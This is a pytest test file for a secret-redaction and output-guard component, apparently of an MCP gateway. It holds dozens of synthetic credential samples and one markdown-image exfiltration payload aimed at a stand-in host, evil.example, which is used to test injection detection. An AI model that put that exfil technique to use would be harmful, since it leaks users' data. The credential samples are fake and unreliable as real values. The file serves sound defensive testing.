"""The shared matcher and the secret rules: every rule redacts a sample of its format, ordinary text stays.

Secret-looking samples are assembled at run time (no complete token is a literal in the repository).
"""

from __future__ import annotations

import base64
import json
from itertools import cycle, islice
from pathlib import Path

import pytest

from mcpward.gateway.config import ConfigError, parse
from mcpward.guards import output, secrets
from mcpward.guards.redactor import (
    CONTROL,
    EXACT_ID,
    SECRETS,
    Detector,
    Profile,
    Redactor,
    encode,
    needs_neutralising,
    neutralise,
    splice,
)
from mcpward.guards.result_strings import apply, collect, collect_error


def body(n: int, alphabet: str = "Zq8Xw3Rt7Yp2Lm9Kd4Vb6Nc5Hj1Gf0Ts") -> str:
    return "".join(islice(cycle(alphabet), n))


def hexs(n: int) -> str:
    return body(n, "9f3a7c1e5b0d2486")


def b64url(obj: dict[str, object]) -> str:
    return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")


PEM = "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIBOgIBAAJBAJtFfagSXdo0JmX6\n-----END " + "RSA PRIVATE KEY-----"
JWT = b64url({"alg": "HS256", "typ": "JWT"}) + "." + b64url({"sub": "42", "name": "jane"}) + "." + body(43)
SAMPLES: list[tuple[str, str]] = [
    ("private-key", PEM),
    ("private-key", "-----BEGIN " + "OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n"),  # cut short
    ("putty-private-key", "PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 1\nAAAAB3Nza\nPrivate-MAC: 9f3a7c1e5b"),
    ("age-secret-key", "AGE-SECRET-KEY-1" + body(58, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L")),
    ("base64-private-key", base64.b64encode(PEM.encode()).decode()),
    ("der-private-key", "MIIBOgIBAAJBAJtFfagSXdo0JmX6EdwWGvFMaXeOFY5xOTs3PWsnhRFakQFbAuI/"),
    ("url-credentials", "postgres://admin:" + "hunter2" + "@db.internal:5432/prod"),
    ("curl-credentials", 'curl -u "admin:' + "S3cretPw9" + '" https://api.internal'),
    ("curl-option-secret", 'curl_easy_setopt(h, CURLOPT_PASSWORD, "' + body(16) + '");'),
    ("cli-secret-flag", "openssl rsa -in k.pem -passin pass:" + body(12)),
    ("powershell-securestring", 'ConvertTo-SecureString "P@ss' + 'w0rd!22" -AsPlainText -Force'),
    ("http-auth-header", "X-Api-Key: " + body(24)),
    ("bearer-token", "sent Bearer " + body(28)),
    ("aws-access-key-id", "AKIA" + "QWADE5R42RDZ4JEM"),
    ("aws-bedrock-api-key", "ABSK" + body(110)),
    ("aws-secret-access-key", 'aws_secret_access_key = "' + body(40) + '"'),
    ("gcp-api-key", "AIza" + body(35)),
    ("gcp-oauth-client-secret", "GOCSPX-" + body(28)),
    ("gcp-oauth-token", "ya29." + body(40)),
    ("azure-client-secret", "qpF8Q~" + body(34)),
    ("azure-storage-key", "AccountKey=" + body(86) + "=="),
    ("alibaba-access-key-id", "LTAI" + body(20)),
    ("digitalocean-token", "dop_v1_" + hexs(64)),
    ("heroku-api-key", "HRKU-" + body(60)),
    ("vercel-token", "vcp_" + body(56)),
    ("flyio-token", "fo1_" + body(43)),
    ("cloudflare-origin-ca-key", "v1.0-" + hexs(24) + "-" + hexs(146)),
    ("databricks-token", "dapi" + hexs(32)),
    ("dynatrace-token", "dt0c01." + body(24, "QWERTY2345UIOPZXCV") + "." + body(64, "QWERTY2345UIOPZXCV")),
    ("doppler-token", "dp.pt." + body(43)),
    ("hashicorp-token", body(14) + ".atlasv1." + body(67)),
    ("pulumi-token", "pul-" + hexs(40)),
    ("github-token", "ghp_" + body(36)),
    ("github-token", "github_pat_" + body(82)),
    ("gitlab-token", "glpat-" + body(20)),
    ("bitbucket-token", "ATBB" + body(32)),
    ("jira-pat", "OTI2NjA3NjU1NTI2" + "Oh2DOnASdOHoIhEGyqIuYrdkYaQZ"),
    ("npm-token", "npm_" + body(36)),
    ("npmrc-auth", "\n//registry.npmjs.org/:_authToken=" + body(36)),
    ("pypi-token", "pypi-AgEIcHlwaS5vcmc" + body(80)),
    ("registry-token", "dckr_pat_" + body(27)),
    ("jfrog-reference-token", base64.b64encode(b"reftkn:01:0123456789:" + b"Zq8Xw3Rt7Yp2Lm9Kd4Vb6Nc5Hj1").decode()),
    ("artifactory-api-key", "AP6" + body(14)),
    ("docker-swarm-secret", "SWMKEY-1-" + body(43)),
    ("slack-token", "xoxb-" + "3918095482" + "74-42362127667-" + body(24)),
    ("slack-webhook", "https://hooks.slack.com/services/" + body(9) + "/" + body(9) + "/" + body(24)),
    ("discord-bot-token", "MTk4NjIyNDgzNDcxOTI1MjQ4" + ".Cl2FMQ." + "ZnCjm1XVW7vRze4b7Cq4se7kKWs"),
    ("discord-webhook", "https://discord.com/api/webhooks/1483928400/" + body(68)),
    ("teams-webhook", "https://contoso.webhook.office.com/webhookb2/" + body(80)),
    ("telegram-bot-token", "1102015" + "43:AA" + body(33)),
    ("linear-api-key", "lin_api_" + body(40)),
    ("notion-token", "ntn_" + body(46)),
    ("figma-token", "figd_" + body(40)),
    ("grafana-token", "glsa_" + body(32) + "_" + hexs(8)),
    ("onepassword-token", "ops_eyJ" + body(80)),
    ("instagram-facebook-token", "IGQV" + body(80)),
    ("twitter-bearer-token", "A" * 22 + body(60)),
    ("stripe-secret-key", "sk_live_" + body(24)),
    ("square-token", "sq0atp-" + body(22)),
    ("paypal-braintree-token", "access_token$production$" + body(16, "q8x3r7y2m9k4v6n5") + "$" + hexs(32)),
    ("shopify-token", "shpat_" + hexs(32)),
    ("twilio-key", "SK" + hexs(32)),
    ("sendgrid-api-key", "SG." + body(22) + "." + body(43)),
    ("mailgun-key", "key-" + hexs(32)),
    ("mailchimp-api-key", hexs(32) + "-us12"),
    ("brevo-api-key", "xkeysib-" + hexs(64) + "-" + body(16)),
    ("salesforce-token", "00D" + body(12) + "!" + body(60)),
    ("openai-api-key", "sk-proj-" + body(20) + "T3BlbkFJ" + body(20)),
    ("anthropic-api-key", "sk-ant-api03-" + body(90)),
    ("huggingface-token", "hf_" + body(34, "qZwXeRtYuIoPaSdFgHjK")),
    ("ai-provider-key", "gsk_" + body(52)),
    ("service-token", "akab-" + body(16, "q8x3r7y2m9k4v6n5") + "-" + body(16, "q8x3r7y2m9k4v6n5")),
    ("dropbox-long-lived-token", body(11) + "A" * 10 + body(43)),
    ("nats-nkey-seed", "SU" + body(56, "QWERTY2345UIOPZXCV")),
    ("ntlm-token", "TlRMTVNTUAAD" + body(40)),
    ("jwt", JWT),
    ("product-key", "ZAQW1-XCDE2-VBGT3-FRTG4-KLMN5"),
    ("sql-password", "CREATE USER bob WITH PASSWORD 'Zx9!hUn" + "t3rQ';"),
    ("cli-secret-flag", "mysql --password=Zx9!hUn" + "t3rQ"),
    ("xml-secret", "<password>Zx9!hUn" + "t3rQ</password>"),
    ("generic-password", 'db_password = "Zx9!hUn' + 't3rQ"'),
    ("generic-secret", 'client_secret: "' + body(20) + '"'),
]


@pytest.fixture(scope="module")
def redactor() -> Redactor:
    return output.redactor_for(parse({}))


def redact(redactor: Redactor, text: str, profile: Profile = SECRETS) -> str:
    return redactor.redact(text, profile) or text


@pytest.mark.parametrize(("rule", "secret"), SAMPLES, ids=[f"{r}-{i}" for i, (r, _) in enumerate(SAMPLES)])
def test_each_rule_redacts_its_format(redactor: Redactor, rule: str, secret: str) -> None:
    out = redact(redactor, f"value {secret} end", SECRETS)
    assert f"[REDACTED:{rule}]" in out
    # The part a rule reports is gone (keyword rules keep their keyword, URL rules the whole URL).
    core = {"sql-password": "Zx9!hUnt3rQ", "cli-secret-flag": "Zx9!hUnt3rQ", "xml-secret": "Zx9!hUnt3rQ",
            "generic-password": "Zx9!hUnt3rQ", "curl-credentials": "S3cretPw9", "generic-secret": body(20),
            "aws-secret-access-key": body(40), "powershell-securestring": "P@ssw0rd!22",
            "http-auth-header": body(24), "bearer-token": body(28)}.get(rule, secret)
    assert core not in out


def test_every_builtin_rule_has_a_sample() -> None:
    assert {d.id for d in secrets.builtin_rules()} <= {rule for rule, _ in SAMPLES}


@pytest.mark.parametrize("text", [
    "the password is required", "password: ${DB_PASSWORD}", "password = os.environ['PW']", "token: <your-token>",
    "api_key: YOUR_API_KEY", "passenger: John Smith", "https://shop.example/s?keywords=34+inch+curved+monitor",
    "Author: bdev12345", "commit 3f2a9c0e1b7d4a55e6f8a9b0c1d2e3f4a5b6c7d8", "id 123e4567-e89b-12d3-a456-426614174000",
    "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "docs: " + "AKIA" + "IOSFODNN7EXAMPLE",
    "version 1.2.3.4 released", "password_id = 2938479", "pass_mask = 0x81103c1452dd61cd", "max_tokens=4096",
    "tokenizer: bert-base-uncased", "secretary: Jane Doe", "password_changed_at: 2024-01-15T10:00:00Z",
    "keys: [a, b, c]", "publishable pk_live_" + body(24), "the token expired yesterday",
])
def test_ordinary_text_is_left_alone(redactor: Redactor, text: str) -> None:
    assert redactor.redact(text, SECRETS) is None


def test_placeholders_dummies_and_checks() -> None:
    assert secrets.is_placeholder("${TOKEN}") and secrets.is_placeholder("<your key>")
    assert secrets.is_placeholder("os.environ.get(\"X\")") and secrets.is_placeholder("0xDEADBEEF")
    assert not secrets.is_placeholder("n83.bat47Fy4")  # dotted, but with digits: a value
    assert secrets.is_dummy("AKIAGIREOGIAEXAMPLE7") and secrets.is_dummy("sk-1234567abc")
    assert not secrets.is_dummy(body(40))
    assert secrets.shannon("aaaa") == 0 and secrets.shannon("abcd") == 2
    assert secrets.password_like("cackle!") and not secrets.password_like("String")
    assert secrets.secret_like(body(20)) and not secrets.secret_like("aaaaaaaaaaaaaaaaaaaa")


def test_specific_rule_named_even_after_a_keyword(redactor: Redactor) -> None:
    out = redact(redactor, "access key " + "AKIA" + "QWADE5R42RDZ4JEM")
    assert out == "access key [REDACTED:aws-access-key-id]"


def test_a_found_secret_is_redacted_wherever_else_it_appears(redactor: Redactor) -> None:
    out = redact(redactor, "password: Zx9!hUnt3rQ\nlogin with Zx9!hUnt3rQ now")
    assert "Zx9!hUnt3rQ" not in out and out.count("[REDACTED:generic-password]") == 2


def test_exact_values_are_redacted_whatever_they_look_like() -> None:
    r = Redactor(secrets.builtin_rules())
    assert r.add_exact(["plain-looking-value", "short", "a.b*c+d(e)", "pässwörd-ünï", "plain-looking-value"]) == 3
    assert r.exact_count == 3
    out = r.redact("x plain-looking-value y a.b*c+d(e) z pässwörd-ünï and short", SECRETS)
    assert out == f"x [REDACTED:{EXACT_ID}] y [REDACTED:{EXACT_ID}] z [REDACTED:{EXACT_ID}] and short"
    assert r.add_exact(["plain-looking-value"]) == 0  # already known: no recompile
    longer = Redactor([])
    longer.add_exact(["abcdef-123", "abcdef-123-and-more"])
    assert longer.redact("abcdef-123-and-more", SECRETS) == f"[REDACTED:{EXACT_ID}]"


def test_a_rejected_candidate_never_hides_an_overlapping_secret() -> None:
    # "call 555 ..." is a phone candidate that fails validation; the token starting inside it must still be found.
    r = output.redactor_for(parse({}))
    token = "1102015" + "43:AA" + body(33)
    text = f"call 555 {token}"
    data = encode(text)
    hits = r.scan(data, Profile("all", frozenset({"secret", "pii"})))
    assert [h.detector.id for h in hits] == ["telegram-bot-token"]


def test_limits_stop_counting_a_category() -> None:
    r = output.redactor_for(parse({}))
    data = encode(" ".join(f"10.0.0.{i}" for i in range(1, 200)) + " key " + "AKIA" + "QWADE5R42RDZ4JEM")
    hits = r.scan(data, Profile("lim", frozenset({"secret", "pii"})), limits={"ip": 5})
    assert sum(h.detector.category == "ip" for h in hits) == 5
    assert hits[-1].detector.id == "aws-access-key-id"  # found after the switch to the smaller program


def test_scan_texts_cuts_at_seams_and_pairs_keys_with_values() -> None:
    r = output.redactor_for(parse({}))
    texts = [encode("password"), encode("Zx9!hUnt3rQ"), encode("-----BEGIN " + "PRIVATE KEY-----"), encode("MIIB")]
    per = r.scan_texts(texts, [True, False, False, False], SECRETS)
    assert [h.detector.id for h in per[1]] == ["generic-password"] and per[0] == []
    assert per[2] and per[3]  # a key block running across two strings is cut in both
    assert r.scan_texts(texts, [False, False, False, False], SECRETS)[1] == []  # not a pair: no assignment


def test_collect_and_apply_cover_every_model_visible_string() -> None:
    result = {
        "content": [{"type": "text", "text": "t1"}, {"type": "image", "data": "AKIA" + "QWADE5R42RDZ4JEM"},
                    {"type": "resource", "resource": {"uri": "u", "text": "t2", "blob": "skip"}},
                    {"type": "resource_link", "uri": "u2", "name": "n", "description": "d"}],
        "structuredContent": {"k": ["v1", {"k2": "v2", "n": 3}]}, "_meta": {"x": "scanned too"}}
    slots = collect("tools/call", result)
    # Every string but base64 payloads (an image's data, a resource's blob), keys other than the
    # protocol's own field names included, and _meta: the server chose what it holds.
    assert [s.text for s in slots] == ["t1", "image", "resource", "u", "t2", "resource_link", "u2", "n", "d",
                                       "k", "v1", "k2", "v2", "n", "x", "scanned too"]
    apply(slots, {0: "T1", 9: "K", 12: "V2"})
    assert result["content"][0]["text"] == "T1" and result["structuredContent"] == {"K": ["v1", {"k2": "V2", "n": 3}]}
    read = {"contents": [{"uri": "a", "text": "x"}, {"blob": "y"}]}
    assert [s.text for s in collect("resources/read", read)] == ["a", "x"]
    prompt = {"description": "d", "messages": [{"role": "user", "content": {"type": "text", "text": "m"}},
                                               {"role": "user", "content": [{"type": "text", "text": "m2"}]}]}
    assert [s.text for s in collect("prompts/get", prompt)] == ["d", "user", "m", "user", "m2"]
    assert [s.text for s in collect("completion/complete", {"completion": {"values": ["a", 1]}})] == ["values", "a"]
    assert [s.text for s in collect_error({"code": 1, "message": "m", "data": {"k": "v"}})] == ["m", "k", "v"]


def test_two_keys_redacted_to_the_same_marker_both_survive() -> None:
    value = {"a": {"k1": 1, "k2": 2}}
    slots = collect("tools/call", {"structuredContent": value})
    apply(slots, {i: "[REDACTED:x]" for i, s in enumerate(slots) if s.is_key and s.text.startswith("k")})
    assert value["a"] == {"[REDACTED:x]": 1, "[REDACTED:x]~": 2}


def test_neutralising_removes_escapes_and_invisible_characters() -> None:
    cases = {"plain": ("plain", 0), "a\x1b[31mred\x1b[0m": ("ared", 2), "a\u200bb\u202ec\u2066": ("abc", 3),
             "bell\x07 esc\x1b": ("bell\u2407 esc\u241b", 2), "tag\U000e0041": ("tag", 1),
             "osc\x1b]0;title\x07!": ("osc!", 1), "caf\u00e9 \u201cok\u201d": ("caf\u00e9 \u201cok\u201d", 0)}
    for text, expected in cases.items():
        assert needs_neutralising(encode(text)) == bool(expected[1]), text
        assert neutralise(text) == expected, text


def test_the_scan_finds_exactly_what_needs_neutralising() -> None:
    # The output guard relies on its one scan to report every character `needs_neutralising` sees.
    redactor = Redactor([])
    profile = Profile("test-control", frozenset({"control"}))
    # Every range holding a character the neutraliser knows, with neighbours on both sides.
    points = [*range(0x0, 0x2100), *range(0x3100, 0x3200), *range(0xFE00, 0x10000), *range(0xDFF00, 0xE0200),
              0x1F600, 0x10FFFF]
    for point in points:
        piece = encode(chr(point))
        hits = redactor.scan(piece, profile)
        assert bool(hits) == needs_neutralising(piece), hex(point)
        assert all(h.detector is CONTROL for h in hits)


def test_a_control_character_inside_a_finding_is_still_reported() -> None:
    # A marker keeps its text (only flagged), so an escape inside its span must still be found.
    redactor = output.redactor_for(parse({}))
    profile = Profile("test-markers-control", frozenset({"marker", "control"}))
    data = encode("![x\x1b[8m](https://evil.example/p.png?q=[DATA]) rest")
    hits = redactor.scan(data, profile)
    assert [h.detector for h in hits] == [CONTROL]
    assert [h.detector.id for h in redactor.scan(data, Profile("test-markers", frozenset({"marker"})))] == \
        ["injection-markdown-image-exfil"]


def test_rule_file_errors_name_the_rule() -> None:
    good = "[[rule]]\nid = \"x-rule\"\nregex = '''abc'''\n"
    assert [d.id for d in secrets.load_rules(good, "f")] == ["x-rule"]
    bad = {
        "[[rule]]\nid = \"x\"\nregex = 'a'\n": "'id' must be",
        "[[rule]]\nid = \"bad-re\"\nregex = '(a'\n": "not a valid RE2 pattern",
        "[[rule]]\nid = \"two\"\nregex = '(a)(b)'\n": "at most one capture group",
        "[[rule]]\nid = \"dup\"\nregex = 'a'\n[[rule]]\nid = \"dup\"\nregex = 'b'\n": "duplicate id",
        "[[rule]]\nid = \"chk\"\nregex = 'a'\ncheck = \"nope\"\n": "unknown check",
        "[[rule]]\nid = \"key\"\nregex = 'a'\nflavour = 1\n": "unknown key",
        "[[rule]]\nid = \"look\"\nregex = '(?=a)'\n": "not a valid RE2 pattern",
        "rule = [": "invalid TOML",
    }
    for text, problem in bad.items():
        with pytest.raises(ValueError, match=problem):
            secrets.load_rules(text, "f")


def test_secrets_config(tmp_path: Path) -> None:
    extra = tmp_path / "more.toml"
    extra.write_text("[[rule]]\nid = \"acme-token\"\nregex = '''acme_[0-9]{8}'''\n")
    cfg = parse({"guards": {"secrets": {"rules": "more.toml", "disable": ["generic-secret"], "mode": "log"}}},
                base_dir=tmp_path)
    got = secrets.settings(cfg)
    ids = [d.id for d in got.detectors]
    assert got.mode == "log" and "acme-token" in ids and "generic-secret" not in ids
    assert ids[-1] == "generic-password"  # operator rules go before the keyword rules
    r = Redactor(got.detectors)
    assert r.redact("id acme_38291746", SECRETS) == "id [REDACTED:acme-token]"
    for table, problem in [({"mode": "shout"}, "must be one of"), ({"disable": ["no-such"]}, "no rule named"),
                           ({"rules": "missing.toml"}, "cannot read"), ({"colour": 1}, "unknown key"),
                           ({"enabled": "yes"}, "expected true or false")]:
        with pytest.raises(ConfigError, match=problem):
            secrets.settings(parse({"guards": {"secrets": table}}, base_dir=tmp_path))
    extra.write_text("[[rule]]\nid = \"jwt\"\nregex = 'x'\n")
    with pytest.raises(ConfigError, match="already a built-in rule"):
        secrets.settings(parse({"guards": {"secrets": {"rules": "more.toml"}}}, base_dir=tmp_path))


def test_detectors_must_be_unique_and_ascii() -> None:
    with pytest.raises(ValueError, match="unique"):
        Redactor([Detector("a", "secret", "secret", "x"), Detector("a", "secret", "secret", "y")])
    with pytest.raises(ValueError, match="ASCII"):
        secrets.load_rules("[[rule]]\nid = \"uni\"\nregex = 'ä'\n", "f")


def test_splice_keeps_text_around_hits(redactor: Redactor) -> None:
    data = encode("é AKIA" + "QWADE5R42RDZ4JEM ü")
    assert splice(data, redactor.scan(data, SECRETS)) == "é [REDACTED:aws-access-key-id] ü"
